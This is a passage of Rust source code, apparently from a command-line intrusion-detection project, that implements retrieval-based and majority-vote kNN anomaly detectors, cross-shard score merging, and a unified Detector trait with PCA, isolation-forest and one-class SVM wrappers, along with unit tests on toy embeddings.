        let s = det.score(&[1.0, 0.0, 0.0]);
        assert!(s.is_finite());
    }

    #[test]
    fn score_all_matches_single() {
        let (emb, labels) = toy();
        let det = RetrievalDetector::fit(&emb, &labels, 1);
        let all = det.score_all(&emb);
        for (r, score) in all.iter().enumerate() {
            assert_eq!(*score, det.score(emb.row(r)));
        }
    }

    #[test]
    #[should_panic(expected = "at least one malicious")]
    fn no_malicious_labels_panics() {
        let (emb, _) = toy();
        let _ = RetrievalDetector::fit(&emb, &[false; 5], 1);
    }

    #[test]
    #[should_panic(expected = "k must be positive")]
    fn zero_k_panics() {
        let (emb, labels) = toy();
        let _ = RetrievalDetector::fit(&emb, &labels, 0);
    }
}
