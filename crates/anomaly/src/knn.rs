//! Retrieval-based detection (paper Section IV-D).
//!
//! Two detectors:
//!
//! * [`VanillaKnn`] — classic majority-vote kNN over all labeled
//!   training embeddings. Included as the ablation baseline the paper
//!   argues *against*: with noisy supervision, benign-labeled neighbours
//!   may actually be malicious, so a benign majority proves nothing.
//! * [`RetrievalDetector`] — the paper's modification: the score of a
//!   test sample is the **average similarity to its k nearest *malicious*
//!   training neighbours**, ignoring benign labels entirely; "such an
//!   innovation leads to obvious performance gains … owing to relief of
//!   the negative impact of label noise". The paper uses k = 1.
//!
//! Both are built on the [`index::VectorIndex`] layer: the default
//! [`IndexConfig::Exact`] backend reproduces the historical
//! brute-force cosine scans bit-for-bit (candidate norms are still
//! precomputed once at build time), while [`IndexConfig::Hnsw`] swaps
//! in sublinear approximate search for scale.

use index::{IndexConfig, Neighbor, VectorIndex};
use linalg::Matrix;

/// Gathers the norm subset for `rows` when the caller already holds
/// norms for the full candidate matrix.
fn subset_norms(all: Option<&[f32]>, rows: &[usize]) -> Option<Vec<f32>> {
    all.map(|norms| rows.iter().map(|&r| norms[r]).collect())
}

/// Builds the configured index, reusing caller-held norms when present.
fn build_index(config: IndexConfig, data: Matrix, norms: Option<Vec<f32>>) -> Box<dyn VectorIndex> {
    match norms {
        Some(n) => config.build_with_norms(data, n),
        None => config.build(data),
    }
}

/// Recovers the [`IndexConfig`] a live index was built with (exact
/// scan, HNSW with its actual parameters, or a sharded partition with
/// its shape — candidate storage format included).
fn config_of(index: &dyn VectorIndex) -> IndexConfig {
    let quant = index.quantization();
    if let Some(hnsw) = index.as_any().downcast_ref::<index::HnswIndex>() {
        return IndexConfig::hnsw_with(*hnsw.params()).with_quant(quant);
    }
    if let Some(sharded) = index.as_any().downcast_ref::<index::ShardedIndex>() {
        return IndexConfig::sharded(*sharded.params()).with_quant(quant);
    }
    IndexConfig::Exact.with_quant(quant)
}

/// One exemplar candidate a shard contributes to a cross-shard merged
/// verdict: the neighbour's id (global, when a router maps it), its
/// similarity to the query, and the supervision label the scoring
/// rule weighs (always `true` for retrieval, which indexes malicious
/// exemplars only).
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct ShardCandidate {
    /// Candidate id in the method's exemplar space.
    pub id: usize,
    /// Cosine similarity to the query.
    pub similarity: f32,
    /// Supervision label of the candidate.
    pub label: bool,
}

impl ShardCandidate {
    /// The candidate as a bare neighbour — how it enters the shared
    /// `(similarity desc, id asc)` total order.
    fn as_neighbour(&self) -> Neighbor {
        Neighbor {
            id: self.id,
            similarity: self.similarity,
        }
    }
}

/// How a shard router folds per-shard [`ShardCandidate`] lists into
/// one method score. Each variant replicates its method's scoring
/// rule term for term, so a merge over exact shards is bit-identical
/// to the unsharded detector (the serve-layer parity suites pin
/// this).
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum ShardMerge {
    /// Mean similarity of the merged top-k — [`RetrievalDetector`]'s
    /// rule.
    MeanTopK {
        /// Neighbours averaged per score.
        k: usize,
    },
    /// Similarity-weighted majority vote over the merged top-k —
    /// [`VanillaKnn`]'s rule.
    MajorityVote {
        /// Neighbours voted over.
        k: usize,
    },
}

impl ShardMerge {
    /// The neighbour count the merged list must be cut to.
    pub fn k(&self) -> usize {
        match self {
            ShardMerge::MeanTopK { k } | ShardMerge::MajorityVote { k } => *k,
        }
    }

    /// Scores one sample from its globally merged candidate list
    /// (sorted by descending similarity, ids ascending on ties).
    pub fn score(&self, merged: &[ShardCandidate]) -> f32 {
        match self {
            // Mirrors `mean_similarity`: summed in sorted order.
            ShardMerge::MeanTopK { .. } => {
                merged.iter().map(|c| c.similarity).sum::<f32>() / merged.len() as f32
            }
            // Mirrors `VanillaKnn::score_neighbours`.
            ShardMerge::MajorityVote { .. } => {
                let k = merged.len();
                let malicious: Vec<&ShardCandidate> = merged.iter().filter(|c| c.label).collect();
                if malicious.len() * 2 > k {
                    malicious.iter().map(|c| c.similarity).sum::<f32>() / malicious.len() as f32
                } else {
                    0.0
                }
            }
        }
    }
}

/// K-way merge of per-shard candidate lists (each sorted by descending
/// similarity, ids ascending on ties) into the global top-k — the same
/// generic merge and the same [`index::neighbour_cmp`] total order the
/// index layer's [`index::merge_shard_topk`] uses, so the two merge
/// paths cannot drift apart and merged exact shards reproduce the
/// unsharded scan's candidate order exactly.
pub fn merge_shard_candidates(lists: &[&[ShardCandidate]], k: usize) -> Vec<ShardCandidate> {
    index::merge_sorted_topk(lists, k, |a, b| {
        index::neighbour_cmp(&a.as_neighbour(), &b.as_neighbour())
    })
}

/// The paper's malicious-neighbour retrieval scorer.
#[derive(Debug)]
pub struct RetrievalDetector {
    index: Box<dyn VectorIndex>,
    k: usize,
}

impl RetrievalDetector {
    /// Builds the detector from labeled training embeddings, keeping
    /// only the malicious-labeled rows, over the exact backend.
    ///
    /// # Panics
    ///
    /// Panics if lengths disagree, `k == 0`, or no row is labeled
    /// malicious (retrieval needs at least one exemplar).
    pub fn fit(embeddings: &Matrix, labels: &[bool], k: usize) -> Self {
        Self::fit_with(embeddings, labels, k, IndexConfig::Exact, None)
    }

    /// [`RetrievalDetector::fit`] with an explicit index backend and
    /// (optionally) precomputed norms for the full `embeddings` matrix
    /// — e.g. the memoized norms of a shared embedding view — so the
    /// index build never re-derives them.
    pub fn fit_with(
        embeddings: &Matrix,
        labels: &[bool],
        k: usize,
        config: IndexConfig,
        norms: Option<&[f32]>,
    ) -> Self {
        assert_eq!(
            embeddings.rows(),
            labels.len(),
            "one label per embedding required"
        );
        assert!(k >= 1, "k must be positive");
        if let Some(n) = norms {
            assert_eq!(
                n.len(),
                embeddings.rows(),
                "precomputed norms must cover the full embedding matrix"
            );
        }
        let rows: Vec<usize> = labels
            .iter()
            .enumerate()
            .filter(|(_, &m)| m)
            .map(|(i, _)| i)
            .collect();
        assert!(
            !rows.is_empty(),
            "retrieval needs at least one malicious-labeled sample"
        );
        let malicious = Matrix::from_fn(rows.len(), embeddings.cols(), |r, c| {
            embeddings[(rows[r], c)]
        });
        let index = build_index(config, malicious, subset_norms(norms, &rows));
        RetrievalDetector { index, k }
    }

    /// Wraps an already-built exemplar index (snapshot restore path).
    ///
    /// # Panics
    ///
    /// Panics if `k == 0` or the index is empty.
    pub fn from_index(index: Box<dyn VectorIndex>, k: usize) -> Self {
        assert!(k >= 1, "k must be positive");
        assert!(!index.is_empty(), "retrieval needs at least one exemplar");
        RetrievalDetector { index, k }
    }

    /// Number of stored malicious exemplars.
    pub fn n_exemplars(&self) -> usize {
        self.index.len()
    }

    /// The neighbour count scored against.
    pub fn k(&self) -> usize {
        self.k
    }

    /// The exemplar index backing this detector.
    pub fn index(&self) -> &dyn VectorIndex {
        self.index.as_ref()
    }

    /// The [`IndexConfig`] matching the live backend (HNSW parameters
    /// included), for re-fits and snapshots.
    pub fn index_config(&self) -> IndexConfig {
        config_of(self.index.as_ref())
    }

    /// Adds one freshly-labeled malicious exemplar to the live index
    /// (incremental HNSW insert; exact append) — the serving path's
    /// alternative to a full refit as supervision arrives.
    pub fn insert(&mut self, embedding: &[f32]) {
        self.index.insert(embedding);
    }

    /// Intrusion score `oᴿᵉᵗʳⁱ`: mean cosine similarity between `x` and
    /// its `k` most similar malicious exemplars.
    pub fn score(&self, x: &[f32]) -> f32 {
        mean_similarity(&self.index.query(x, self.k))
    }

    /// Scores every row of `data` (batch queries fan out across
    /// threads inside the index).
    pub fn score_all(&self, data: &Matrix) -> Vec<f32> {
        self.index
            .query_batch(data, self.k)
            .iter()
            .map(|n| mean_similarity(n))
            .collect()
    }

    /// Per-row top-k candidates for cross-shard merging (ids are local
    /// to this detector's exemplar set; a router maps them to global
    /// ids). Retrieval indexes malicious exemplars only, so every
    /// candidate's label is `true`.
    pub fn candidates(&self, data: &Matrix) -> Vec<Vec<ShardCandidate>> {
        self.index
            .query_batch(data, self.k)
            .into_iter()
            .map(|ns| {
                ns.into_iter()
                    .map(|n| ShardCandidate {
                        id: n.id,
                        similarity: n.similarity,
                        label: true,
                    })
                    .collect()
            })
            .collect()
    }
}

/// Mean similarity of a (descending-sorted) neighbour list — summed in
/// sorted order, exactly as the historical scan did.
fn mean_similarity(neighbours: &[Neighbor]) -> f32 {
    let k = neighbours.len();
    neighbours.iter().map(|n| n.similarity).sum::<f32>() / k as f32
}

/// Classic majority-vote kNN, for the ablation comparison.
#[derive(Debug)]
pub struct VanillaKnn {
    index: Box<dyn VectorIndex>,
    labels: Vec<bool>,
    k: usize,
}

impl VanillaKnn {
    /// Indexes the full labeled training set over the exact backend.
    ///
    /// # Panics
    ///
    /// Panics if lengths disagree, the set is empty, or `k == 0`.
    pub fn fit(embeddings: &Matrix, labels: &[bool], k: usize) -> Self {
        Self::fit_with(embeddings, labels, k, IndexConfig::Exact, None)
    }

    /// [`VanillaKnn::fit`] with an explicit index backend and
    /// optionally precomputed candidate norms.
    pub fn fit_with(
        embeddings: &Matrix,
        labels: &[bool],
        k: usize,
        config: IndexConfig,
        norms: Option<&[f32]>,
    ) -> Self {
        assert_eq!(embeddings.rows(), labels.len(), "one label per embedding");
        assert!(embeddings.rows() > 0, "kNN needs training data");
        assert!(k >= 1, "k must be positive");
        if let Some(n) = norms {
            assert_eq!(
                n.len(),
                embeddings.rows(),
                "precomputed norms must cover the full embedding matrix"
            );
        }
        let index = build_index(config, embeddings.clone(), norms.map(<[f32]>::to_vec));
        VanillaKnn {
            index,
            labels: labels.to_vec(),
            k,
        }
    }

    /// Wraps an already-built index and its per-id labels (snapshot
    /// restore path).
    ///
    /// # Panics
    ///
    /// Panics if lengths disagree, the index is empty, or `k == 0`.
    pub fn from_parts(index: Box<dyn VectorIndex>, labels: Vec<bool>, k: usize) -> Self {
        assert_eq!(index.len(), labels.len(), "one label per indexed row");
        assert!(!index.is_empty(), "kNN needs training data");
        assert!(k >= 1, "k must be positive");
        VanillaKnn { index, labels, k }
    }

    /// The neighbour count voted over.
    pub fn k(&self) -> usize {
        self.k
    }

    /// The labeled index backing this detector.
    pub fn index(&self) -> &dyn VectorIndex {
        self.index.as_ref()
    }

    /// The per-id labels, aligned with the index rows.
    pub fn labels(&self) -> &[bool] {
        &self.labels
    }

    /// The [`IndexConfig`] matching the live backend.
    pub fn index_config(&self) -> IndexConfig {
        config_of(self.index.as_ref())
    }

    /// Adds one freshly-labeled sample to the live index.
    pub fn insert(&mut self, embedding: &[f32], label: bool) {
        let id = self.index.insert(embedding);
        debug_assert_eq!(id, self.labels.len(), "ids stay dense");
        self.labels.push(label);
    }

    /// Score: fraction of the k nearest neighbours labeled malicious,
    /// weighted by similarity (so ties order sensibly).
    pub fn score(&self, x: &[f32]) -> f32 {
        self.score_neighbours(&self.index.query(x, self.k))
    }

    fn score_neighbours(&self, neighbours: &[Neighbor]) -> f32 {
        let k = neighbours.len();
        let malicious: Vec<&Neighbor> = neighbours.iter().filter(|n| self.labels[n.id]).collect();
        if malicious.len() * 2 > k {
            // Majority malicious: average similarity of those
            // neighbours (summed in descending-similarity order, as
            // the historical scan did).
            malicious.iter().map(|n| n.similarity).sum::<f32>() / malicious.len() as f32
        } else {
            0.0
        }
    }

    /// Scores every row of `data`.
    pub fn score_all(&self, data: &Matrix) -> Vec<f32> {
        self.index
            .query_batch(data, self.k)
            .iter()
            .map(|n| self.score_neighbours(n))
            .collect()
    }

    /// Per-row top-k candidates for cross-shard merging, each carrying
    /// its supervision label (ids are local to this detector's index).
    pub fn candidates(&self, data: &Matrix) -> Vec<Vec<ShardCandidate>> {
        self.index
            .query_batch(data, self.k)
            .into_iter()
            .map(|ns| {
                ns.into_iter()
                    .map(|n| ShardCandidate {
                        id: n.id,
                        similarity: n.similarity,
                        label: self.labels[n.id],
                    })
                    .collect()
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Embeddings on distinct directions: malicious cluster along +x,
    /// benign along +y.
    fn toy() -> (Matrix, Vec<bool>) {
        let rows: Vec<Vec<f32>> = vec![
            vec![1.0, 0.05, 0.0],
            vec![0.9, -0.05, 0.1],
            vec![0.0, 1.0, 0.0],
            vec![0.1, 0.9, 0.0],
            vec![-0.05, 1.0, 0.1],
        ];
        let m = Matrix::from_fn(5, 3, |r, c| rows[r][c]);
        (m, vec![true, true, false, false, false])
    }

    #[test]
    fn retrieval_scores_malicious_direction_higher() {
        let (emb, labels) = toy();
        let det = RetrievalDetector::fit(&emb, &labels, 1);
        assert_eq!(det.n_exemplars(), 2);
        let near_mal = det.score(&[1.0, 0.0, 0.0]);
        let near_ben = det.score(&[0.0, 1.0, 0.0]);
        assert!(near_mal > 0.9);
        assert!(near_mal > near_ben);
    }

    #[test]
    fn retrieval_ignores_benign_labels() {
        // A point surrounded by benign-labeled exemplars still scores by
        // its similarity to the nearest malicious one — the label-noise
        // robustness the paper claims.
        let (emb, labels) = toy();
        let det = RetrievalDetector::fit(&emb, &labels, 1);
        let mislabeled_attack = [0.8, 0.6, 0.0]; // between clusters
        let score = det.score(&mislabeled_attack);
        assert!(
            score > 0.7,
            "score {score} should reflect malicious similarity"
        );
    }

    #[test]
    fn vanilla_majority_suppresses_minority_votes() {
        let (emb, labels) = toy();
        let knn = VanillaKnn::fit(&emb, &labels, 3);
        // Near benign cluster: majority benign ⇒ score 0.
        assert_eq!(knn.score(&[0.0, 1.0, 0.0]), 0.0);
        // Deep in malicious direction with k=3 the neighbours are
        // 2 malicious + 1 benign ⇒ majority malicious.
        assert!(knn.score(&[1.0, 0.0, 0.0]) > 0.5);
    }

    #[test]
    fn k_larger_than_exemplars_is_clamped() {
        let (emb, labels) = toy();
        let det = RetrievalDetector::fit(&emb, &labels, 10);
        let s = det.score(&[1.0, 0.0, 0.0]);
        assert!(s.is_finite());
    }

    #[test]
    fn score_all_matches_single() {
        let (emb, labels) = toy();
        let det = RetrievalDetector::fit(&emb, &labels, 1);
        let all = det.score_all(&emb);
        for (r, score) in all.iter().enumerate() {
            assert_eq!(*score, det.score(emb.row(r)));
        }
    }

    #[test]
    fn hnsw_backend_agrees_on_the_toy_set() {
        // At toy scale the graph search is effectively exhaustive, so
        // approximate and exact backends must agree exactly.
        let (emb, labels) = toy();
        let exact = RetrievalDetector::fit(&emb, &labels, 1);
        let approx = RetrievalDetector::fit_with(&emb, &labels, 1, IndexConfig::hnsw(), None);
        assert_eq!(exact.score_all(&emb), approx.score_all(&emb));
        let vk_exact = VanillaKnn::fit(&emb, &labels, 3);
        let vk_approx = VanillaKnn::fit_with(&emb, &labels, 3, IndexConfig::hnsw(), None);
        assert_eq!(vk_exact.score_all(&emb), vk_approx.score_all(&emb));
    }

    #[test]
    fn precomputed_norms_change_nothing() {
        let (emb, labels) = toy();
        let norms = linalg::ops::row_norms(&emb);
        let plain = RetrievalDetector::fit(&emb, &labels, 2);
        let with_norms =
            RetrievalDetector::fit_with(&emb, &labels, 2, IndexConfig::Exact, Some(&norms));
        assert_eq!(plain.score_all(&emb), with_norms.score_all(&emb));
    }

    #[test]
    #[should_panic(expected = "at least one malicious")]
    fn no_malicious_labels_panics() {
        let (emb, _) = toy();
        let _ = RetrievalDetector::fit(&emb, &[false; 5], 1);
    }

    #[test]
    #[should_panic(expected = "k must be positive")]
    fn zero_k_panics() {
        let (emb, labels) = toy();
        let _ = RetrievalDetector::fit(&emb, &labels, 0);
    }
}
