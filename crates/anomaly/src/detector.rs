//! The unified `Detector` abstraction the scoring engine is built on.
//!
//! Every scoring method in the paper — the Section III unsupervised
//! detectors and the Section IV supervised ones — reduces to the same
//! contract: *fit on a labeled embedded training set, then score an
//! embedded test set, higher = more suspicious*. [`Detector`] captures
//! that contract; `cmdline_ids::engine::ScoringEngine` drives a set of
//! boxed detectors over one shared [`EmbeddingView`] so the encoder
//! runs once per line set instead of once per method.
//!
//! An [`EmbeddingView`] pairs the embedded matrix with the source
//! lines. Most detectors only read the matrix; detectors that tune the
//! backbone itself (reconstruction-based tuning) read the lines and
//! re-embed under their own updated encoder, which is inherent to the
//! method rather than a cache miss.

use crate::knn::{ShardCandidate, ShardMerge};
use crate::{IsolationForest, OneClassSvm, PcaDetector, RetrievalDetector, VanillaKnn};
use index::IndexConfig;
use linalg::Matrix;
use rand::rngs::StdRng;
use rand::SeedableRng;
use std::sync::{Arc, OnceLock};

/// Pooling strategy for a sequence embedding — which pooled view of
/// the encoder's token states a detector consumes. Lives next to
/// [`Detector`] so engines can ask each method which embedding space
/// it needs ([`Detector::pooling`]) and build the right view;
/// `cmdline_ids::embed` re-exports it alongside the embedding helpers.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Pooling {
    /// Average of all token embeddings — the paper's choice for PCA
    /// anomaly detection (Section III).
    Mean,
    /// The `[CLS]` position — the paper's probing target (Section IV-B).
    Cls,
}

/// A line set together with its embedding matrix (one row per line).
///
/// Cheap to clone: both halves are shared, as is the lazily-computed
/// row-norm cache ([`EmbeddingView::norms`]) — every clone of a view
/// (e.g. the `EmbeddingStore`'s memoized copies) sees norms computed
/// at most once. A view may also be *lines-only*
/// ([`EmbeddingView::lines_only`]) for driving methods that never read
/// the matrix — multi-line classification and reconstruction tuning —
/// without paying an encoder pass.
#[derive(Debug, Clone)]
pub struct EmbeddingView {
    lines: Arc<[String]>,
    matrix: Option<Arc<Matrix>>,
    norms: Arc<OnceLock<Vec<f32>>>,
}

impl EmbeddingView {
    /// Pairs `lines` with their embeddings.
    ///
    /// # Panics
    ///
    /// Panics if the row count does not match the line count.
    pub fn new(lines: Vec<String>, matrix: Matrix) -> Self {
        assert_eq!(
            lines.len(),
            matrix.rows(),
            "one embedding row per line required"
        );
        EmbeddingView {
            lines: lines.into(),
            matrix: Some(Arc::new(matrix)),
            norms: Arc::new(OnceLock::new()),
        }
    }

    /// A view over embeddings with no retained source lines (for
    /// detectors and tests that operate purely in embedding space).
    pub fn from_matrix(matrix: Matrix) -> Self {
        EmbeddingView {
            lines: Arc::from(Vec::new()),
            matrix: Some(Arc::new(matrix)),
            norms: Arc::new(OnceLock::new()),
        }
    }

    /// A view over source lines with no embeddings — for engine runs
    /// whose every registered detector reports
    /// [`Detector::wants_embeddings`]` == false`.
    pub fn lines_only(lines: Vec<String>) -> Self {
        EmbeddingView {
            lines: lines.into(),
            matrix: None,
            norms: Arc::new(OnceLock::new()),
        }
    }

    /// The source lines (empty if constructed via
    /// [`EmbeddingView::from_matrix`]).
    pub fn lines(&self) -> &[String] {
        &self.lines
    }

    /// The `(n, hidden)` embedding matrix.
    ///
    /// # Panics
    ///
    /// Panics on a lines-only view: a detector reading the matrix
    /// must report [`Detector::wants_embeddings`]` == true` so the
    /// engine embeds before fitting.
    pub fn matrix(&self) -> &Matrix {
        self.matrix.as_deref().expect(
            "lines-only EmbeddingView has no matrix (detector should report wants_embeddings)",
        )
    }

    /// Whether this view carries an embedding matrix.
    pub fn has_matrix(&self) -> bool {
        self.matrix.is_some()
    }

    /// Euclidean norm of every embedding row, computed once on first
    /// use and shared by all clones of this view — index builds over a
    /// memoized store view never re-derive them.
    ///
    /// # Panics
    ///
    /// Panics on a lines-only view (see [`EmbeddingView::matrix`]).
    pub fn norms(&self) -> &[f32] {
        self.norms
            .get_or_init(|| linalg::ops::row_norms(self.matrix()))
    }

    /// Whether the norm cache has been filled (testing hook for the
    /// "computed at most once" claim).
    pub fn norms_computed(&self) -> bool {
        self.norms.get().is_some()
    }

    /// Number of samples.
    pub fn len(&self) -> usize {
        match &self.matrix {
            Some(m) => m.rows(),
            None => self.lines.len(),
        }
    }

    /// Whether the view holds no samples.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

/// Why fitting a detector failed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum DetectorError {
    /// The training view holds no samples.
    EmptyTrainingSet,
    /// Label count disagrees with the embedding count.
    LabelMismatch {
        /// Embedded sample count.
        embeddings: usize,
        /// Label count.
        labels: usize,
    },
    /// The method needs at least one positive label and got none.
    NoPositiveLabels,
    /// The training view was built without source lines but the method
    /// needs them (it embeds under its own tuned encoder).
    MissingLines,
}

impl std::fmt::Display for DetectorError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            DetectorError::EmptyTrainingSet => write!(f, "no training samples to fit on"),
            DetectorError::LabelMismatch { embeddings, labels } => write!(
                f,
                "one label per embedding required: {embeddings} embeddings, {labels} labels"
            ),
            DetectorError::NoPositiveLabels => {
                write!(f, "method needs at least one positive (alerted) label")
            }
            DetectorError::MissingLines => {
                write!(
                    f,
                    "method needs the view's source lines, but none were retained"
                )
            }
        }
    }
}

impl std::error::Error for DetectorError {}

/// A fittable, batch-scoring detection method.
///
/// `Send + Sync` so a fitted detector set can be scored from the
/// engine's parallel per-detector fan-out.
pub trait Detector: Send + Sync {
    /// Stable method name (used for registration, reporting, fusion).
    fn name(&self) -> &str;

    /// Fits on an embedded training set with supervision labels
    /// (`labels[i] = true` means the supervision source alerted on
    /// sample `i`). Unsupervised methods ignore the labels.
    fn fit(&mut self, train: &EmbeddingView, labels: &[bool]) -> Result<(), DetectorError>;

    /// Selects the vector-index backend neighbour-based methods build
    /// at the next [`Detector::fit`]. The engine calls this for every
    /// registered detector when a run carries an
    /// [`IndexConfig`]; methods without a neighbour index ignore it.
    fn configure_index(&mut self, _config: IndexConfig) {}

    /// Scores every sample of the view; higher = more suspicious.
    ///
    /// # Panics
    ///
    /// Implementations panic if called before a successful [`Detector::fit`].
    fn score_batch(&self, test: &EmbeddingView) -> Vec<f32>;

    /// Which pooled embedding space this method's views must come
    /// from. Engines building views per detector (the method suite,
    /// the serving layer) honour this; the default mean pooling
    /// matches every method except CLS-probed classification.
    fn pooling(&self) -> Pooling {
        Pooling::Mean
    }

    /// Whether this method can absorb freshly-labeled exemplars into
    /// its fitted state ([`Detector::append`]). Engines skip building
    /// (and embedding) append views for methods that return `false` —
    /// a supervision batch must not pay an encoder pass for a
    /// detector that would discard it.
    fn absorbs_appends(&self) -> bool {
        false
    }

    /// Absorbs freshly-labeled exemplars into the *fitted* state
    /// without a refit — the live-supervision path a long-lived
    /// scoring service feeds as alerts arrive. Returns `Ok(true)` if
    /// the batch was absorbed (neighbour-based methods insert into
    /// their index incrementally), `Ok(false)` if this method cannot
    /// absorb incrementally and needs a periodic refit instead (the
    /// default). Implementations overriding this must also override
    /// [`Detector::absorbs_appends`] to `true`, or engines will never
    /// call it.
    ///
    /// # Errors
    ///
    /// [`DetectorError::LabelMismatch`] when `labels.len() !=
    /// batch.len()`.
    fn append(&mut self, batch: &EmbeddingView, labels: &[bool]) -> Result<bool, DetectorError> {
        let _ = (batch, labels);
        Ok(false)
    }

    /// A fresh, unfitted detector carrying the same hyperparameters
    /// (and seed, where fitting is randomized) — the online lifecycle's
    /// refit entry point. A background refit worker fits the template
    /// on the accumulated stream off-lock and swaps it in via
    /// `FittedEngine::install_refits`, so the resident detector keeps
    /// serving its old state until the swap. `None` (the default) for
    /// methods whose fitted state is not periodically refittable this
    /// way — neighbour-based methods absorb appends incrementally
    /// ([`Detector::absorbs_appends`]) and never go stale, and the
    /// supervised tuning methods own training loops the serving layer
    /// cannot re-run. Seeded templates make refits deterministic:
    /// fitting the template on the same lines reproduces the original
    /// fit bit-for-bit.
    fn refit_template(&self) -> Option<Box<dyn Detector>> {
        None
    }

    /// How a shard router merges this method's per-shard candidates
    /// into one score — `None` (the default) for methods whose fitted
    /// state is not a partitionable exemplar set. Methods returning
    /// `Some` must also implement [`Detector::shard_candidates`].
    fn shard_merge(&self) -> Option<ShardMerge> {
        None
    }

    /// Per-sample top-k candidates for cross-shard score merging, ids
    /// local to this detector's exemplar set. Only meaningful when
    /// [`Detector::shard_merge`] is `Some`; the default returns no
    /// candidates.
    ///
    /// # Panics
    ///
    /// Implementations panic if called before a successful
    /// [`Detector::fit`].
    fn shard_candidates(&self, test: &EmbeddingView) -> Vec<Vec<ShardCandidate>> {
        let _ = test;
        Vec::new()
    }

    /// Whether a sample with this supervision label enters the
    /// method's exemplar index (and therefore needs shard routing on
    /// append). Retrieval indexes malicious rows only; vanilla kNN
    /// indexes everything. Only meaningful when
    /// [`Detector::shard_merge`] is `Some`.
    fn indexes_label(&self, label: bool) -> bool {
        let _ = label;
        true
    }

    /// Concrete-type escape hatch so snapshot capture
    /// (`anomaly::DetectorState`) can downcast to the methods it knows
    /// how to serialize.
    fn as_any(&self) -> &dyn std::any::Any;

    /// Whether this method reads the views' embedding matrices. When
    /// every registered detector returns `false`, an engine may hand
    /// out lines-only views and skip the encoder entirely.
    fn wants_embeddings(&self) -> bool {
        true
    }

    /// Whether `score_batch`'s output is aligned one-to-one with the
    /// test view's samples. Stream-structured methods (e.g. window
    /// deduplication) return `false`, which excludes them from
    /// whole-run score fusion — their positions index different
    /// samples even when the counts happen to coincide.
    fn test_aligned(&self) -> bool {
        true
    }

    /// Bytes of fitted state this detector keeps resident (candidate
    /// storage, norms, graph adjacency). `None` when the method holds
    /// no accountable fitted state — unfitted, or not index-backed.
    /// This is what a memory-budgeted tenant map charges a hot tenant
    /// for (`serve::tenants`).
    fn resident_bytes(&self) -> Option<usize> {
        None
    }
}

/// Shared fit-input validation: non-empty training view, one label
/// per embedded sample. Detector implementations (here and in
/// `cmdline_ids::engine`) call this first.
pub fn check_labels(train: &EmbeddingView, labels: &[bool]) -> Result<(), DetectorError> {
    if train.is_empty() {
        return Err(DetectorError::EmptyTrainingSet);
    }
    if train.len() != labels.len() {
        return Err(DetectorError::LabelMismatch {
            embeddings: train.len(),
            labels: labels.len(),
        });
    }
    Ok(())
}

/// [`PcaDetector`] (paper Eq. 1) behind the [`Detector`] trait;
/// unsupervised, labels ignored.
#[derive(Debug, Clone)]
pub struct PcaMethod {
    variance_ratio: f32,
    fitted: Option<PcaDetector>,
}

impl PcaMethod {
    /// Keeps components for `variance_ratio` of the variance (the paper
    /// keeps 95%).
    pub fn new(variance_ratio: f32) -> Self {
        PcaMethod {
            variance_ratio,
            fitted: None,
        }
    }

    /// The fitted inner detector, if any.
    pub fn inner(&self) -> Option<&PcaDetector> {
        self.fitted.as_ref()
    }
}

impl Detector for PcaMethod {
    fn name(&self) -> &str {
        "pca"
    }

    fn fit(&mut self, train: &EmbeddingView, labels: &[bool]) -> Result<(), DetectorError> {
        check_labels(train, labels)?;
        self.fitted = Some(PcaDetector::fit(train.matrix(), self.variance_ratio));
        Ok(())
    }

    fn score_batch(&self, test: &EmbeddingView) -> Vec<f32> {
        self.fitted
            .as_ref()
            .expect("PcaMethod must be fitted before scoring")
            .score_all(test.matrix())
    }

    fn refit_template(&self) -> Option<Box<dyn Detector>> {
        Some(Box::new(PcaMethod::new(self.variance_ratio)))
    }

    fn as_any(&self) -> &dyn std::any::Any {
        self
    }
}

/// [`IsolationForest`] behind the [`Detector`] trait; unsupervised.
#[derive(Debug, Clone)]
pub struct IsolationForestMethod {
    trees: usize,
    max_samples: usize,
    seed: u64,
    fitted: Option<IsolationForest>,
}

impl IsolationForestMethod {
    /// `trees` isolation trees over subsamples of `max_samples` rows;
    /// `seed` makes fitting deterministic.
    pub fn new(trees: usize, max_samples: usize, seed: u64) -> Self {
        IsolationForestMethod {
            trees,
            max_samples,
            seed,
            fitted: None,
        }
    }
}

impl Detector for IsolationForestMethod {
    fn name(&self) -> &str {
        "iforest"
    }

    fn fit(&mut self, train: &EmbeddingView, labels: &[bool]) -> Result<(), DetectorError> {
        check_labels(train, labels)?;
        let mut rng = StdRng::seed_from_u64(self.seed);
        self.fitted = Some(IsolationForest::fit(
            &mut rng,
            train.matrix(),
            self.trees,
            self.max_samples,
        ));
        Ok(())
    }

    fn score_batch(&self, test: &EmbeddingView) -> Vec<f32> {
        self.fitted
            .as_ref()
            .expect("IsolationForestMethod must be fitted before scoring")
            .score_all(test.matrix())
    }

    fn refit_template(&self) -> Option<Box<dyn Detector>> {
        Some(Box::new(IsolationForestMethod::new(
            self.trees,
            self.max_samples,
            self.seed,
        )))
    }

    fn as_any(&self) -> &dyn std::any::Any {
        self
    }
}

/// [`OneClassSvm`] behind the [`Detector`] trait; unsupervised.
#[derive(Debug, Clone)]
pub struct OneClassSvmMethod {
    nu: f32,
    epochs: usize,
    seed: u64,
    fitted: Option<OneClassSvm>,
}

impl OneClassSvmMethod {
    /// Linear one-class SVM with margin parameter `nu`, trained for
    /// `epochs` passes; `seed` makes fitting deterministic.
    pub fn new(nu: f32, epochs: usize, seed: u64) -> Self {
        OneClassSvmMethod {
            nu,
            epochs,
            seed,
            fitted: None,
        }
    }
}

impl Detector for OneClassSvmMethod {
    fn name(&self) -> &str {
        "ocsvm"
    }

    fn fit(&mut self, train: &EmbeddingView, labels: &[bool]) -> Result<(), DetectorError> {
        check_labels(train, labels)?;
        let mut rng = StdRng::seed_from_u64(self.seed);
        self.fitted = Some(OneClassSvm::fit(
            &mut rng,
            train.matrix(),
            self.nu,
            self.epochs,
        ));
        Ok(())
    }

    fn score_batch(&self, test: &EmbeddingView) -> Vec<f32> {
        self.fitted
            .as_ref()
            .expect("OneClassSvmMethod must be fitted before scoring")
            .score_all(test.matrix())
    }

